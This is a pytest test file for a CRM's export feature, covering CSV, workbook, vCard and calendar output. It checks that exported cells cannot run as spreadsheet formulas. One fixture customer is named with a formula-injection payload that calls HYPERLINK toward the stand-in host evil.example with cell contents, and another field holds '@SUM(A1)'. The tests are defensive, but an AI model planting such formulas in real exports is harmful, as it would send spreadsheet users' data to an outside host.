"""Exports: any list or report as a file that no spreadsheet computes."""

import csv
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from skills.exporting import export_records
from skills.reply import File, Reply
from skills.turn import Refused, Unclear
from storage.contacts import Contact
from storage.customers import Customer
from storage.deals import Deal
from storage.exchange.address_book import card_tables
from storage.exchange.report import ImportReport
from storage.products import Order
from storage.reminders import Reminder
from tests.skills.house import House

HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"pay")'


@pytest.fixture
def trade(house: House) -> House:
    """The house with two customers in one city, one of a hostile name, and what they bought."""
    with house.turn() as turn:
        acme = Customer(name="Acme Pumps", city="Oslo", revenue=Decimal("12500.50"), custom={"tier": "gold"})
        evil = Customer(name=HOSTILE, city="Oslo", phone="+47 55 59 01 01", website="@SUM(A1)")
        for customer in (acme, evil):
            turn.crm.customers.add(customer)
        turn.crm.contacts.add(Contact(name="Ann Lee", customer=acme, birthday=date(1990, 2, 28)))
        for month, amount in ((9, "100.10"), (10, "250.25"), (10, "-20")):
            turn.crm.orders.add(
                Order(customer=acme, ordered_on=date(2026, month, 5), amount=Decimal(amount), quantity=1)
            )
        deal = Deal(name="Big one", customer=acme, amount=Decimal(900), stage="proposal")
        turn.crm.deals.add(deal)
    return house


def exported(house: House, **asked: Any) -> tuple[Reply, File]:
    with house.turn() as turn:
        reply = export_records(turn, **asked)
    (file,) = reply.files
    return reply, file


def read_csv(file: File) -> list[dict[str, str]]:
    assert isinstance(file.content, bytes)
    return list(csv.DictReader(StringIO(file.content.decode("utf-8-sig"), newline="")))


def sheet_of(file: File) -> Any:
    assert isinstance(file.content, bytes)
    return load_workbook(BytesIO(file.content)).worksheets[0]


def read_workbook(file: File) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet_of(file).iter_rows()]


def test_a_list_becomes_a_csv_of_all_its_fields(trade: House) -> None:
    reply, file = exported(trade, entity="customer", filters=[["city", "=", "Oslo"]], sort="name", form="csv")
    assert reply.text.startswith("2 customers with ")
    assert file.name == "customers-2026-11-23.csv"
    by_city = {row["city"] for row in read_csv(file)}
    acme = next(row for row in read_csv(file) if row["name"] == "Acme Pumps")
    assert by_city == {"Oslo"}
    assert (acme["revenue"], acme["tier"], acme["lifetime value"]) == ("12500.5", "gold", "330.35")


def test_no_cell_of_a_csv_begins_as_a_formula(trade: House) -> None:
    _, file = exported(trade, entity="customer", filters=[["city", "=", "Oslo"]], form="csv")
    evil = next(row for row in read_csv(file) if "HYPERLINK" in row["name"])
    assert evil["name"] == f"'{HOSTILE}"
    assert evil["website"] == "'@SUM(A1)"
    assert evil["phone"] == "+47 55 59 01 01"


def test_a_workbook_holds_text_as_text_and_figures_as_figures(trade: House) -> None:
    _, file = exported(trade, entity="customer", filters=[["city", "=", "Oslo"]], sort="name")
    header, *rows = read_workbook(file)
    named = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    kinds = {cell.value: cell.data_type for cell in sheet_of(file)["A"]}
    assert kinds[HOSTILE] == "s"
    assert named["Acme Pumps"]["revenue"] == 12500.5
    assert isinstance(named["Acme Pumps"]["created at"], datetime)


def test_a_report_becomes_a_file_too(trade: House) -> None:
    reply, file = exported(trade, entity="order", measure="sum:amount", by="month", form="csv")
    assert reply.text == "Sum of amount of orders, as CSV."
    amounts = [row["sum of amount (money)"] for row in read_csv(file)]
    assert [Decimal(amount) for amount in amounts] == [Decimal("100.10"), Decimal("230.25")]
    _, single = exported(trade, entity="order", measure="sum:amount")
    assert read_workbook(single)[1] == ["sum of amount of orders", 330.35]


def test_birthdays_are_days_in_a_workbook(trade: House) -> None:
    _, file = exported(trade, entity="contact", filters=[["name", "=", "Ann Lee"]])
    header, row = read_workbook(file)
    assert row[header.index("birthday")].date() == date(1990, 2, 28)


def test_contacts_become_cards_that_read_back(trade: House, tmp_path: Path) -> None:
    reply, file = exported(trade, entity="contact", filters=[["name", "=", "Ann Lee"]], form="vcf")
    assert reply.text == "1 contact as vCards."
    assert isinstance(file.content, str)
    (tmp_path / "out.vcf").write_text(file.content, newline="")
    *_, contacts = card_tables(tmp_path / "out.vcf", ImportReport("t"))
    (ann,) = (dict(zip(contacts.header, row.cells, strict=True)) for row in contacts.rows)
    assert ann == {"name": "Ann Lee", "customer": "Acme Pumps", "birthday": "1990-02-28"}


def test_reminders_become_a_calendar_in_their_zone(trade: House) -> None:
    with trade.turn() as turn:
        reminder = Reminder(about="Call, then mail", due_at=turn.now, person=turn.speaker, zone="Europe/Berlin")
        reminder.every = "FREQ=WEEKLY;BYDAY=MO"
        turn.crm.reminders.add(reminder)
    _, file = exported(trade, form="ics")
    assert isinstance(file.content, bytes)
    event: Any = Calendar.from_ical(file.content).walk("VEVENT")[0]
    assert str(event["SUMMARY"]) == "Call, then mail"
    assert event["DTSTART"].dt.isoformat() == "2026-11-23T10:30:00+01:00"
    assert event["RRULE"].to_ical() == b"FREQ=WEEKLY;BYDAY=MO"
    with trade.turn() as turn, pytest.raises(Refused, match="I write contacts as vCards"):
        export_records(turn, entity="deal", form="vcf")


def test_an_empty_list_makes_no_file_and_nothing_named_is_asked_for(trade: House) -> None:
    with trade.turn() as turn:
        with pytest.raises(Refused, match="There are no customers in Atlantis"):
            export_records(turn, entity="customer", filters=[["city", "=", "Atlantis"]])
        with pytest.raises(Unclear, match="A file of what"):
            export_records(turn)
        with pytest.raises(Refused, match="has no"):
            export_records(turn, entity="customer", filters=[["shoe size", "=", "42"]])


def test_a_file_of_bytes_survives_the_outbox() -> None:
    reply = Reply("Here.", files=(File("a.xlsx", b"PK\x00\xff"), File("b.json", "{}")))
    assert Reply.from_json(reply.to_json()).files == reply.files
